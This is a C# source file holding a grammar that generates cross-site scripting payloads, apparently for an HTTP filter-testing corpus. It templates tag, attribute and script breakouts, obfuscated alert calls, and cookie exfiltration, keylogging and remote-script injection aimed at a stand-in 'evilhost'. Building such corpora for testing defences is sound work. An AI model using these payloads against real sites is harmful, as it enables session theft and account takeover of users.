namespace Weir.Http.Corpus.Attacks;

/// <summary>Cross-site scripting: tags, events, schemes and quotings; attribute and string breakouts; what browsers and frameworks forgive.</summary>
internal static class Xss
{
    public const string Text = """"
        §attack
        6× «breakhtml»«scripttag»
        7× «breakhtml»«eventtag»
        4× «attrbreak»
        4× «jsbreakout»
        3× «schemetag»
        3× «scheme»
        2× «breakhtml»«svgmath»
        2× «frameworks»
        2× «polyglot»
        2× «brokentag»
        2× «encodedxss»
        2× «jsexpr»
        «cssxss»
        «dangling»
        «carriedxss»
        «docs»
        2× «shortxss»
        3× «phrase»«¦ ¦"¦'»«breakhtml»«scripttag»
        2× «phrase»«¦ »«breakhtml»«eventtag»
        «phrase»«attrbreak»
        2× «queryxss»

        ¶ ---- a piece of a query, as a filter sees it without what stands before ----
        §queryxss
        2× &«param»=«attrbreak»
        2× &«param»=«breakhtml»«scripttag»
        &«param»=«breakhtml»«eventtag»&«param»=«word»
        &«param»=«jsbreakout»&«param»=«num»
        «param»=«word»&«param»=«attrbreak»
        «param»=«num»&«param»=«breakhtml»«scripttag»&«param»=«word»
        «phrase»@<SCRIPT>«jspart»</SCRIPT>.«word».«tld»

        ¶ ---- what runs ----
        §jspart
        8× «run»
        3× «pop»(document.«prop»)
        2× «exfil»
        2× «obscured»
        «run»;«run»
        §pop
        10× alert
        3× prompt
        3× confirm
        «print¦console.log¦document.write¦eval¦window.alert¦top.alert¦self.alert¦parent.alert¦(alert)¦window['alert']¦top['alert']¦self["alert"]¦alert?.¦globalThis.alert¦document.defaultView.alert¦this.alert¦frames.alert¦open¦import¦fetch»
        §arg
        6× 1
        3× document.«prop»
        3× '«xssword»'
        2× "«xssword»"
        2× «#1-9999»
        «/«xssword»/¦/«xssword»/.source¦`«xssword»`¦\'«xssword»\'¦\"«xssword»\"¦String.fromCharCode(«xssword→codes»)¦&quot;«xssword»&quot;¦&#39;«xssword»&#39;¦location¦origin¦window.origin¦this.id¦document['cookie']¦localStorage.«word»¦1337¦+1¦-1¦~1¦«num»+«num»¦URL¦name¦navigator.userAgent¦document.domain+' '+document.cookie¦`${document.domain}`¦»
        §xssword
        4× XSS
        3× xss
        «test¦hacked¦pwned¦«rand»¦«word»¦Hello¦hi¦Vulnerable¦by «rand»¦X¦boom¦xss-«#1-99»»
        §prop
        4× cookie
        3× domain
        «location¦URL¦referrer¦documentURI¦body.innerHTML¦title¦location.href¦location.hash¦forms[0].action»
        §run
        8× «pop»(«arg»)
        2× «pop»`«¦1¦«xssword»»`
        «pop»(«arg»)«;¦//¦;//¦ ¦»
        (()=>{«pop»(«arg»)})()
        (function(){«pop»(«arg»)})()
        !function(){«pop»(«arg»)}()
        setTimeout«(¦`»«'«pop»(«arg»)'¦"«pop»(«arg»)"¦«pop»»«,«#0-999»)¦)¦`»
        «setInterval¦setTimeout»('«pop»(«arg»)',«#1-9999»)
        eval(«'«pop»(«arg»)'¦"«pop»(«arg»)"¦atob('«alertcode→b64»')¦String.fromCharCode(«alertcode→codes»)¦name¦location.hash.slice(1)¦URL.slice(«#1-99»)¦decodeURIComponent(location.hash)¦unescape('«alertcode→urlall»')¦'\x61lert(1)'»)
        Function(«'«pop»(«arg»)'¦"«pop»(«arg»)"»)()
        «new »Function`«pop»\`1\``
        [].constructor.constructor('«pop»(«arg»)')()
        constructor.constructor('«pop»(«arg»)')()
        location='javascript:«pop»(«arg»)'
        «window.¦document.¦top.¦»location«.href¦»=«'«evilurl»'¦"«evilurl»"¦`«evilurl»`»
        «a=¦x=¦_=»«pop»;«a¦x¦_»(«arg»)
        throw onerror=«pop»,«arg»
        onerror=«pop»;throw «arg»
        {onerror=«pop»}throw «arg»
        «arg»«.»«map¦find¦forEach¦filter¦some»(«pop»)
        [«arg»].«map¦find¦forEach¦filter¦every¦findIndex»(«pop»)
        Reflect.apply(«pop»,null,[«arg»])
        «pop».«call¦apply¦bind»(«null¦this¦self»,«arg»)«¦()»
        Set.constructor`«pop»\x28«arg»\x29```
        import('«evilurl»')
        document.write('«scriptlit»')
        document.write(String.fromCharCode(«scriptlit→codes»))
        document.body.innerHTML='«imglit»'
        document.body.appendChild(document.createElement('script')).src='«evilurl»'
        $.getScript('«evilurl»')
        $('«imglit»')
        with(document)«pop»(cookie)
        «pop»(«arg»)&&1
        typeof «pop»(«arg»)
        void(«pop»(«arg»))
        «pop»«/**/¦ ¦␤»(«arg»)
        window«.»onload=«pop»
        debugger
        while(1)«pop»(«arg»)
        §alertcode
        4× alert(1)
        «alert(document.«prop»)¦alert('«xssword»')¦confirm(1)¦prompt(1)»
        §scriptlit
        <script src=«evilurl»></script>
        <script>alert(1)<\/script>
        §imglit
        <img src=x onerror=alert(«#1-9»)>
        <svg onload=alert(«#1-9»)>
        <img src="«evilurl»?c="+document.cookie>
        §exfil
        3× «window.¦document.¦»location«.href¦»=«'¦"»«http¦https»://«evilhost»/«?c=¦?cookie=¦cookie.php?c=¦steal?»«'¦"»+«document.cookie¦escape(document.cookie)¦encodeURIComponent(document.cookie)»
        2× new Image().src=«'¦"»«http¦https»://«evilhost»/«?¦i.gif?c=¦c/»«'¦"»+document.cookie
        2× fetch(«'¦"¦`»«http¦https»://«evilhost»/«?c=¦»«'+document.cookie¦"+document.cookie¦${document.cookie}`»)
        fetch('«http¦https»://«evilhost»',{method:'POST',«mode:'no-cors',¦»body:document.«cookie¦body.innerHTML»})
        fetch('/««word»¦account¦admin»').then(r=>r.text()).then(t=>fetch('//«evilhost»/?d='+btoa(t)))
        navigator.sendBeacon('//«evilhost»/',document.cookie)
        document.write('<img src="http://«evilhost»/?c='+document.cookie+'">')
        document.images[0].src="http://«evilhost»/?"+document.cookie
        var «$x:letter»=new XMLHttpRequest();«$x».open('GET','//«evilhost»/?'+document.cookie);«$x».send()
        document.onkeypress=function(e){new Image().src='//«evilhost»/?k='+e.key}
        document.forms[0].action='//«evilhost»/'
        var s=document.createElement('script');s.src='«evilurl»';document.«body¦head».appendChild(s)
        open('//«evilhost»/?'+document.cookie)
        localStorage.setItem('«word»','«rand»')
        §obscured
        2× window[«'al'+'ert'¦"ale"+"rt"¦'\x61lert'¦/al/.source+/ert/.source¦`al`+`ert`¦8680439..toString(30)¦atob('YWxlcnQ=')¦'trela'.split('').reverse().join('')»](«arg»)
        2× «top¦self¦this¦parent¦frames¦globalThis»[«'al'+'ert'¦"al"+"ert"¦/al/.source+/ert/.source¦'\141\154\145\162\164'¦"\x61\x6c\x65\x72\x74"»](«arg»)
        2× «\u0061lert¦al\u0065rt¦\u{61}lert¦\u0061\u006c\u0065\u0072\u0074¦a\u006cert»(«arg»)
        [][«'filter'¦"map"¦'find'»][«'constructor'¦"constructor"»](«'alert(1)'¦"alert(1)"»)()
        [][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]«jsf*3-10»
        «jsf*6-20»
        eval('\x61\x6c\x65\x72\x74\x28\x31\x29')
        eval(atob`«alertcode→b64»`)
        eval(8680439..toString(30))(983801..toString(36))
        var «letter»='al',«letter»='ert';window[«letter»+«letter»](1)
        «$:=~[];¦゜=/｀ｍ´）ﾉ ~┻━┻ //¦ﾟωﾟﾉ= /｀ｍ´）ﾉ»«rand»
        ([,ウ,,,,ア]=[]+{},[ネ,ホ,ヌ,セ,,ミ,ハ,ヘ,,,ナ]=[!!ウ]+!ウ+ウ.ウ)[ツ=ア+ウ+ナ+ヘ+ネ+ホ+ヌ+ア+ネ+ウ+ホ][ツ](ミ+ハ+セ+ホ+ネ+'(-~ウ)')()
        eval(unescape(/%«hexdigit*2»«letter»%28%31%29/.source))
        «pop»(«arg»);for(;;);
        parseInt(«'alert'¦"confirm"»,30)
        eval.call`${'\u0061lert\u00281\u0029'}`
        Array.from`1${«pop»}3${window}2`
        document['\x63ookie']
        §jsf
        «[]¦![]¦!![]¦+[]¦+!+[]¦(![]+[])¦[+[]]¦[!+[]+!+[]]¦+¦(¦)»
        """";
}
